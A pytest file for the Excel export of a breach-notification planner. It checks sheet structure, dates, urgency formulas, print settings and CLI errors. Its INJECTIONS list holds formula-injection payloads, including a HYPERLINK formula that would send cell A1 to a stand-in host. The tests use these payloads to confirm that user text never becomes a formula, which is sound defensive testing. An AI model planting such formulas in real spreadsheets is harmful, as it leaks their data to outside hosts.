@@ -1,0 +1,475 @@
+"""The Excel export: reopen the bytes with openpyxl and check what counsel will open.
+
+Each test reads the workbook back rather than trusting the writer: sheets, types, formats,
+the formula-based urgency colors, print settings, and that text from a user or a file is
+never stored as a formula.
+"""
+
+from __future__ import annotations
+
+import errno
+import io
+import re
+from dataclasses import replace
+from datetime import date, datetime, timedelta
+from pathlib import Path
+
+import pytest
+from openpyxl import Workbook, load_workbook
+from openpyxl.worksheet.worksheet import Worksheet
+
+from notifyplanner.cli import SAMPLE_INCIDENT, main
+from notifyplanner.engine import plan as make_plan
+from notifyplanner.export.xlsx import (
+    FORMULA_PREFIXES,
+    WEEKLY_AFTER_DAYS,
+    plan_to_xlsx,
+    set_text,
+    sheet_title,
+)
+from notifyplanner.incident_file import read_incident
+from notifyplanner.model import DeadlineKind, Incident, Plan, Rulebook, Status
+from notifyplanner.report import DISCLAIMER, STATUS_WORDS
+from tests.jurisdictions.statute import plan_for
+
+MADE_ON = date(2026, 10, 20)
+SHEETS = ["Summary", "Obligations", "Timeline", "Residents", "Credit monitoring", "Sources"]
+INJECTIONS = [
+    '=HYPERLINK("http://example.invalid/?leak="&A1,"Click me")',
+    "+1",
+    "-2",
+    "@SUM(A1)",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+@pytest.fixture(scope="module")
+def sample_plan(rulebook: Rulebook) -> Plan:
+    return make_plan(read_incident(SAMPLE_INCIDENT), rulebook)
+
+
+@pytest.fixture(scope="module")
+def sample_book(sample_plan: Plan, rulebook: Rulebook) -> Workbook:
+    return load_workbook(io.BytesIO(plan_to_xlsx(sample_plan, rulebook, made_on=MADE_ON)))
+
+
+def reopen(plan: Plan, rulebook: Rulebook) -> Workbook:
+    return load_workbook(io.BytesIO(plan_to_xlsx(plan, rulebook, made_on=MADE_ON)))
+
+
+def headers(ws: Worksheet, row: int = 1) -> dict[str, int]:
+    """Header text -> column number."""
+    return {c.value: c.column for c in ws[row] if c.value is not None}
+
+
+def column(ws: Worksheet, name: str, first: int = 2, last: int | None = None) -> list:
+    col = headers(ws)[name]
+    last = last or ws.max_row
+    return [ws.cell(row=r, column=col).value for r in range(first, last + 1)]
+
+
+def row_of(ws: Worksheet, label: str, col: int = 1) -> int:
+    for cells in ws.iter_rows(min_col=col, max_col=col):
+        if cells[0].value == label:
+            return cells[0].row
+    raise AssertionError(f"no row labelled {label!r} on {ws.title}")
+
+
+def table_rows(ws: Worksheet, name: str) -> int:
+    """The last row a table covers."""
+    ref = ws.tables[name].ref
+    return int(re.search(r"(\d+)$", ref).group(1))  # type: ignore[union-attr]
+
+
+# --------------------------------------------------------------------------- structure
+
+
+def test_returns_xlsx_bytes_and_every_sheet(sample_book: Workbook, sample_plan: Plan, rulebook: Rulebook):
+    data = plan_to_xlsx(sample_plan, rulebook, made_on=MADE_ON)
+    assert isinstance(data, bytes) and data[:2] == b"PK"
+    assert sample_book.sheetnames == SHEETS
+
+
+def test_same_plan_same_bytes(sample_plan: Plan, rulebook: Rulebook):
+    """Pure: no clock inside, not even in the file's own timestamps."""
+    first = plan_to_xlsx(sample_plan, rulebook, made_on=MADE_ON)
+    assert plan_to_xlsx(sample_plan, rulebook, made_on=MADE_ON) == first
+    props = load_workbook(io.BytesIO(first)).properties
+    assert props.modified == datetime(2026, 10, 20)
+
+
+@pytest.mark.parametrize("sheet", ["Obligations", "Residents", "Credit monitoring", "Sources"])
+def test_header_bold_and_frozen(sample_book: Workbook, sheet: str):
+    ws = sample_book[sheet]
+    assert all(cell.font.bold for cell in ws[1] if cell.value is not None)
+    assert ws.freeze_panes is not None and ws.freeze_panes.endswith("2")
+
+
+def test_obligations_has_every_field_and_team_columns(sample_book: Workbook, sample_plan: Plan):
+    ws = sample_book["Obligations"]
+    names = headers(ws)
+    for expected in (
+        "Where",
+        "Recipient",
+        "Office",
+        "Status",
+        "Reason",
+        "Deadline",
+        "Deadline kind",
+        "Send by (practical)",
+        "Computation",
+        "Citation",
+        "Rule in force since",
+        "Notes",
+        "Sent on",
+        "Owner",
+        "Jurisdiction",
+        "Obligation id",
+        "What the notice must contain",
+        "How to file",
+        "Rule enacted by",
+        "Citation link",
+    ):
+        assert expected in names, expected
+    last = len(sample_plan.obligations) + 1
+    assert all(v is None for v in column(ws, "Sent on", last=last))
+    assert all(v is None for v in column(ws, "Owner", last=last))
+    assert sorted(column(ws, "Obligation id", last=last)) == sorted(o.key for o in sample_plan.obligations)
+
+
+def test_obligations_table_covers_every_row(sample_book: Workbook, sample_plan: Plan):
+    ws = sample_book["Obligations"]
+    table = ws.tables["Obligations"]
+    last_col = ws.cell(row=1, column=len(headers(ws))).column_letter
+    assert table.ref == f"A1:{last_col}{len(sample_plan.obligations) + 1}"
+    assert [c.name for c in table.tableColumns] == list(headers(ws))
+    assert ws.freeze_panes == "C2"
+
+
+def test_table_names_are_valid_excel_names(sample_book: Workbook):
+    names = [name for ws in sample_book.worksheets for name in ws.tables]
+    assert set(names) == {"Obligations", "Residents", "CreditMonitoring", "Sources"}
+    for name in names:
+        assert re.fullmatch(r"[A-Za-z_][A-Za-z0-9_.]{0,254}", name)
+        assert not re.fullmatch(r"[A-Za-z]{1,3}\d+|[RrCc]\d*", name)  # never a cell reference
+
+
+def test_dates_are_real_excel_dates(sample_book: Workbook, sample_plan: Plan):
+    ws = sample_book["Obligations"]
+    col = headers(ws)["Deadline"]
+    by_key = {o.key: o for o in sample_plan.obligations}
+    keys = column(ws, "Obligation id", last=len(sample_plan.obligations) + 1)
+    seen = 0
+    for row, key in enumerate(keys, start=2):
+        cell = ws.cell(row=row, column=col)
+        expected = by_key[key].deadline
+        if expected is None:
+            assert cell.value is None
+            continue
+        seen += 1
+        assert cell.is_date and cell.number_format == "yyyy-mm-dd"
+        assert cell.value == datetime.combine(expected, datetime.min.time())
+    assert seen >= 10
+    sent = ws.cell(row=2, column=headers(ws)["Sent on"])
+    assert sent.number_format == "yyyy-mm-dd"
+
+
+def test_no_fixed_deadline_is_words_not_a_number(sample_book: Workbook, sample_plan: Plan):
+    ws = sample_book["Obligations"]
+    kinds = column(ws, "Deadline kind", last=len(sample_plan.obligations) + 1)
+    undated = [o for o in sample_plan.obligations if o.deadline_kind is DeadlineKind.NO_FIXED_DEADLINE]
+    assert undated and kinds.count("no fixed date") == len(undated)
+
+
+def test_urgency_colors_are_formulas_against_today(sample_book: Workbook):
+    ws = sample_book["Obligations"]
+    rules = [rule for cf in ws.conditional_formatting for rule in cf.rules]
+    formulas = [rule.formula[0] for rule in rules]
+    assert all(rule.type == "expression" for rule in rules)
+    assert len(rules) == 6
+    overdue = next(f for f in formulas if "<TODAY()" in f)
+    assert '="required"' in overdue and "LEN($I2)=0" in overdue  # only required, only if not sent
+    assert any("-TODAY()<=7" in f for f in formulas)
+    assert formulas[0] == "LEN($I2)>0"  # sent wins over every date rule
+    assert rules[0].stopIfTrue
+    # No color baked in: data cells carry no fill except the two columns the team fills in.
+    team = {headers(ws)["Sent on"], headers(ws)["Owner"]}
+    for cells in ws.iter_rows(min_row=2, max_row=ws.max_row):
+        for cell in cells:
+            if cell.column not in team:
+                assert cell.fill.fill_type is None, cell.coordinate
+
+
+def test_days_left_is_a_live_formula(sample_book: Workbook):
+    ws = sample_book["Obligations"]
+    cell = ws.cell(row=2, column=headers(ws)["Days left"])
+    assert cell.data_type == "f" and "TODAY()" in cell.value
+
+
+def test_detail_columns_grouped_not_lost(sample_book: Workbook):
+    ws = sample_book["Obligations"]
+    letter = ws.cell(row=1, column=headers(ws)["What the notice must contain"]).column_letter
+    dim = ws.column_dimensions[letter]
+    assert dim.outlineLevel == 1 and dim.hidden
+    assert not ws.column_dimensions["A"].hidden
+
+
+# --------------------------------------------------------------------------- print
+
+
+@pytest.mark.parametrize("sheet", SHEETS)
+def test_print_setup(sample_book: Workbook, sheet: str):
+    ws = sample_book[sheet]
+    assert ws.page_setup.orientation == "landscape"
+    assert ws.sheet_properties.pageSetUpPr.fitToPage
+    assert int(ws.page_setup.fitToWidth) >= 1 and int(ws.page_setup.fitToHeight) == 0
+    footer = ws.oddFooter
+    assert "Sample: telehealth pharmacy ransomware (fictional)" in footer.left.text
+    assert "&P" in footer.center.text and "&N" in footer.center.text
+    if sheet not in ("Summary", "Timeline"):
+        assert ws.print_title_rows.replace("$", "") == "1:1"
+
+
+def test_obligations_print_fits_one_page_wide(sample_book: Workbook):
+    assert int(sample_book["Obligations"].page_setup.fitToWidth) == 1
+
+
+def test_footer_escapes_ampersands(rulebook: Rulebook):
+    plan = make_plan(Incident(name="Smith & Wesson &P leak", discovered=date(2026, 1, 5)), rulebook)
+    ws = reopen(plan, rulebook)["Obligations"]
+    assert ws.oddFooter.left.text == "Smith && Wesson &&P leak"
+
+
+# --------------------------------------------------------------------------- summary and other sheets
+
+
+def test_summary_facts_counts_rules_and_disclaimer(sample_book: Workbook, sample_plan: Plan):
+    ws = sample_book["Summary"]
+    assert ws["A2"].value == DISCLAIMER
+    assert ws.cell(row=row_of(ws, "Incident"), column=2).value == sample_plan.incident.name
+    made = ws.cell(row=row_of(ws, "Plan made on"), column=2)
+    assert made.is_date and made.value == datetime(2026, 10, 20)
+    controlling = ws.cell(row=row_of(ws, "Earliest fixed deadline"), column=2)
+    assert controlling.value == datetime.combine(sample_plan.controlling_deadline, datetime.min.time())
+    for status in Status:
+        assert ws.cell(row=row_of(ws, STATUS_WORDS[status]), column=2).value == len(
+            sample_plan.by_status(status)
+        )
+    overdue = ws.cell(row=row_of(ws, "overdue today (live)"), column=2)
+    assert overdue.data_type == "f" and "TODAY()" in overdue.value
+    start = row_of(ws, "Jurisdiction")
+    listed = {ws.cell(row=r, column=1).value.split(" – ")[0]: r for r in range(start + 1, ws.max_row + 1)}
+    for version in sample_plan.versions:
+        row = listed[version.jurisdiction]
+        assert ws.cell(row=row, column=2).value.date() == version.effective_from
+        assert ws.cell(row=row, column=3).value.date() == version.last_reviewed
+
+
+def test_residents_counts_and_total(sample_book: Workbook, sample_plan: Plan):
+    ws = sample_book["Residents"]
+    residents = sample_plan.incident.residents
+    last = table_rows(ws, "Residents")
+    assert last == len(residents) + 1
+    counts = dict(zip(column(ws, "Where", last=last), column(ws, "Residents", last=last), strict=True))
+    assert counts == {code: (n if n is not None else "unknown") for code, n in residents.items()}
+    total_row = row_of(ws, "Total (known counts)", col=2)
+    assert total_row == last + 1
+    assert ws.cell(row=total_row, column=3).value == sum(n for n in residents.values() if n is not None)
+    assert ws.cell(row=total_row + 1, column=3).value == sample_plan.incident.total_affected
+
+
+def test_credit_monitoring_rows(sample_book: Workbook, sample_plan: Plan):
+    ws = sample_book["Credit monitoring"]
+    duties = sample_plan.credit_monitoring
+    assert duties, "the sample owes credit monitoring in California"
+    last = table_rows(ws, "CreditMonitoring")
+    assert last == len(duties) + 1
+    rows = {
+        ws.cell(row=r, column=1).value: [ws.cell(row=r, column=c).value for c in range(1, 12)]
+        for r in range(2, last + 1)
+    }
+    for duty in duties:
+        row = rows[duty.jurisdiction]
+        assert row[2] == STATUS_WORDS[duty.status]
+        assert row[3] == duty.months
+        assert row[9] == duty.citation.cite
+        if duty.starts:
+            assert row[4].date() == duty.starts and row[5].date() == duty.ends
+
+
+def test_sources_list_every_citation_and_url(sample_book: Workbook, sample_plan: Plan):
+    ws = sample_book["Sources"]
+    last = table_rows(ws, "Sources")
+    cites = set(column(ws, "Citation", last=last))
+    urls = set(column(ws, "Address", last=last))
+    wanted = (
+        [o.citation for o in sample_plan.obligations]
+        + [d.citation for d in sample_plan.credit_monitoring]
+        + [v.statute for v in sample_plan.versions]
+    )
+    for citation in wanted:
+        assert citation.cite in cites
+        assert citation.url in urls
+    links = [ws.cell(row=r, column=headers(ws)["Link"]) for r in range(2, last + 1)]
+    assert all(cell.hyperlink and cell.hyperlink.target.startswith("http") for cell in links)
+
+
+def test_timeline_daily_grid_with_today_formula(sample_book: Workbook, sample_plan: Plan):
+    ws = sample_book["Timeline"]
+    assert "One column per day" in ws["A1"].value
+    first_day = ws["D3"]
+    assert first_day.is_date and first_day.value.date() == sample_plan.incident.discovered
+    rules = [rule for cf in ws.conditional_formatting for rule in cf.rules]
+    assert rules and all("TODAY()" in rule.formula[0] for rule in rules)
+    dated = [o for o in sample_plan.obligations if o.deadline and o.status is not Status.NOT_REQUIRED]
+    assert ws.max_row == 3 + len(dated)
+    # The deadline cell of each row is marked, the days before it filled.
+    row = 4
+    deadline = ws.cell(row=row, column=3).value.date()
+    mark_col = 4 + (deadline - sample_plan.incident.discovered).days
+    assert ws.cell(row=row, column=mark_col).value == "◆"
+    assert ws.cell(row=row, column=4).fill.fill_type is not None
+    assert ws.cell(row=row, column=mark_col + 1).value is None
+
+
+def test_timeline_goes_weekly_for_a_long_span(sample_plan: Plan, rulebook: Rulebook):
+    start = sample_plan.incident.discovered
+    far = start + timedelta(days=WEEKLY_AFTER_DAYS + 200)
+    ob = next(o for o in sample_plan.obligations if o.deadline and o.status is Status.REQUIRED)
+    long_plan = replace(sample_plan, obligations=(*sample_plan.obligations, replace(ob, deadline=far)))
+    ws = reopen(long_plan, rulebook)["Timeline"]
+    assert "One column per week" in ws["A1"].value and str(WEEKLY_AFTER_DAYS) in ws["A1"].value
+    assert (ws["E3"].value - ws["D3"].value).days == 7
+    rules = [rule for cf in ws.conditional_formatting for rule in cf.rules]
+    assert all("TODAY()" in rule.formula[0] for rule in rules)
+
+
+def test_empty_incident_still_exports(rulebook: Rulebook):
+    book = reopen(make_plan(Incident(), rulebook), rulebook)
+    assert book.sheetnames == SHEETS
+    assert book["Timeline"]["A1"].value.startswith("No timeline")
+    assert (
+        book["Summary"].cell(row=row_of(book["Summary"], "Incident"), column=2).value == "(unnamed incident)"
+    )
+
+
+def test_small_statute_case_exports(rulebook: Rulebook):
+    plan = plan_for("TX", discovered="2024-03-01", determined="2024-03-05", residents=250)
+    book = reopen(plan, rulebook)
+    ws = book["Obligations"]
+    assert table_rows(ws, "Obligations") == len(plan.obligations) + 1
+    assert "TX" in column(ws, "Where", last=len(plan.obligations) + 1)
+
+
+# --------------------------------------------------------------------------- injection
+
+
+@pytest.mark.parametrize("payload", INJECTIONS)
+def test_user_text_is_never_a_formula(payload: str, rulebook: Rulebook):
+    incident = Incident(name=payload, notes=payload, discovered=date(2026, 3, 2), residents={"TX": 300})
+    book = reopen(make_plan(incident, rulebook), rulebook)
+    ws = book["Summary"]
+    for label in ("Incident", "Notes"):
+        cell = ws.cell(row=row_of(ws, label), column=2)
+        assert cell.data_type == "s"
+        assert cell.value == payload.replace("\r", "\n")  # XML keeps no bare CR; Excel breaks lines on LF
+        assert cell.quotePrefix  # stays text when someone edits the cell in Excel
+    assert payload.strip() in book["Obligations"].oddFooter.left.text.replace("&&", "&")
+    assert all(
+        c.data_type != "f" for r in ws.iter_rows(min_col=2, max_col=2, max_row=30) for c in r if c.value
+    )
+
+
+def test_no_cell_outside_our_own_formulas_is_a_formula(rulebook: Rulebook):
+    incident = Incident(
+        name=INJECTIONS[0], notes="@SUM(A1)", discovered=date(2026, 3, 2), residents={"CA": 10}
+    )
+    book = reopen(make_plan(incident, rulebook), rulebook)
+    for ws in book.worksheets:
+        for cells in ws.iter_rows():
+            for cell in cells:
+                if cell.data_type == "f":
+                    assert "HYPERLINK" not in cell.value and "SUM(A1)" not in cell.value
+                    assert "TODAY()" in cell.value or "COUNT" in cell.value, (ws.title, cell.coordinate)
+
+
+@pytest.mark.parametrize("prefix", FORMULA_PREFIXES)
+def test_set_text_forces_string_type(prefix: str):
+    ws = Workbook().active
+    expected = (prefix + "1+1").replace("\r", "\n")
+    cell = set_text(ws["A1"], prefix + "1+1")
+    assert cell.data_type == "s" and cell.value == expected and cell.quotePrefix
+    buffer = io.BytesIO()
+    ws.parent.save(buffer)
+    again = load_workbook(buffer).active["A1"]
+    assert again.data_type == "s" and again.value == expected
+
+
+def test_control_characters_are_dropped_not_fatal(rulebook: Rulebook):
+    incident = Incident(name="bell\x07 and nul\x00", notes="ok", discovered=date(2026, 3, 2))
+    ws = reopen(make_plan(incident, rulebook), rulebook)["Summary"]
+    assert ws.cell(row=row_of(ws, "Incident"), column=2).value == "bell and nul"
+
+
+@pytest.mark.parametrize(
+    ("raw", "clean"),
+    [
+        ("Credit monitoring", "Credit monitoring"),
+        ("a/b:c*d?[e]\\f", "a b c d e f"),
+        ("'quoted'", "quoted"),
+        ("x" * 40, "x" * 31),
+        ("", "Sheet"),
+    ],
+)
+def test_sheet_titles_are_sanitized(raw: str, clean: str):
+    assert sheet_title(raw) == clean
+
+
+# --------------------------------------------------------------------------- CLI
+
+
+def test_cli_writes_the_workbook_atomically(tmp_path: Path, capsys):
+    out = tmp_path / "plan.xlsx"
+    out.write_bytes(b"an older export")
+    assert main(["plan", str(SAMPLE_INCIDENT), "--today", "2026-10-20", "--xlsx", str(out)]) == 0
+    assert load_workbook(out).sheetnames == SHEETS
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["plan.xlsx"]  # no temp file left behind
+    assert "Notification plan" in capsys.readouterr().out
+
+
+@pytest.mark.parametrize(
+    ("target", "words"),
+    [
+        ("missing-folder/plan.xlsx", "does not exist"),
+        (".", "is a folder"),
+        ("file.txt/plan.xlsx", "not a folder"),
+    ],
+)
+def test_cli_unwritable_target_is_one_clear_line(tmp_path: Path, capsys, target: str, words: str):
+    (tmp_path / "file.txt").write_text("x")
+    code = main(["plan", str(SAMPLE_INCIDENT), "--xlsx", str(tmp_path / target)])
+    err = capsys.readouterr().err
+    assert code == 2
+    assert err.count("\n") == 1 and err.startswith("notifyplanner: ") and words in err
+    assert "Traceback" not in err
+
+
+@pytest.mark.parametrize(
+    ("error", "words"),
+    [
+        (OSError(errno.ENOSPC, "No space left on device"), "the disk is full"),
+        (PermissionError(errno.EACCES, "Permission denied"), "is the file open in Excel"),
+    ],
+)
+def test_cli_full_disk_or_open_file_is_one_clear_line(tmp_path: Path, capsys, monkeypatch, error, words):
+    """A full disk or a file Excel holds open (Windows refuses the rename) cannot be staged as
+    root on Linux, so the write itself is made to fail the way the OS would."""
+
+    def refuse(path, payload):  # the signature of atomic_write_bytes
+        raise error
+
+    monkeypatch.setattr("notifyplanner.cli.atomic_write_bytes", refuse)
+    code = main(["plan", str(SAMPLE_INCIDENT), "--xlsx", str(tmp_path / "plan.xlsx")])
+    err = capsys.readouterr().err
+    assert code == 2 and err.count("\n") == 1 and words in err
